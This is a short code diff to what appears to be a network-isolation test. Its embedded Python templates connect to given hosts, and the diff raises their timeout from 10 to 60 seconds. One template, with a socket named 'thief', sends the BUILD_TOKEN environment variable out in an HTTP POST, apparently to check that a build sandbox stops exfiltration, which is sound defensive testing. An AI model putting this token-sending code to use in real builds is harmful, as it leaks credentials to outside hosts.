@@ -37,7 +37,7 @@ GET = f"""
 import socket, sys
 for name in sys.argv[1:]:
     for info in socket.getaddrinfo(name, {PORT}, type=socket.SOCK_STREAM):
-        with socket.create_connection(info[4][:2], 10) as registry:
+        with socket.create_connection(info[4][:2], 60) as registry:
             registry.sendall(b"GET /package HTTP/1.1\\r\\n\\r\\n")
             registry.recv(9)
 """
@@ -46,7 +46,7 @@ import os, socket, sys
 for name in sys.argv[1:]:
     for info in socket.getaddrinfo(name, {PORT}, type=socket.SOCK_STREAM):
         try:
-            with socket.create_connection(info[4][:2], 10) as thief:
+            with socket.create_connection(info[4][:2], 60) as thief:
                 thief.sendall(b"POST / HTTP/1.1\\r\\n\\r\\n" + os.environb[b"BUILD_TOKEN"])
                 thief.recv(9)
         except OSError:
